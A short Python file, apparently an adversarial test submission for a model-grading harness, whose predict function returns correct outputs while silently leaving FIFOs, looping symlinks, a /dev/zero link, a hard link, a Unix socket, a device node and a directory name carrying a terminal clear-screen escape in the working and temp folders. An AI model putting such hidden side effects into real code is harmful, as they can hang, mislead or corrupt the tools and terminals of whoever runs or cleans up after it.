# /// attack
# does = "leaves pipes, sockets, links in a circle and names that are no text in predict, and answers rightly"
# own = {}
# ///
"""Whoever cleans up must not open the pipe, follow the links or print the names."""

import contextlib
import os
import socket
import tempfile


def predict(params, x):
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for make in (
            lambda name: os.mkfifo(name),
            lambda name: os.symlink(name, name),
            lambda name: os.symlink("/dev/zero", name + b"-zero"),
            lambda name: os.link(os.path.join(os.path.dirname(name), b"mlp.py"), name + b"-link"),
            lambda name: socket.socket(socket.AF_UNIX).bind(name + b"-socket"),
            lambda name: os.mknod(name + b"-node"),
            lambda name: os.mkdir(name + b"\n\xff\x1b[2J" + b"x" * 200),
        ):
            with contextlib.suppress(OSError):
                make(os.fsencode(folder) + b"/\xffodd\r")
    return forward(params, x)[0].argmax(axis=1)
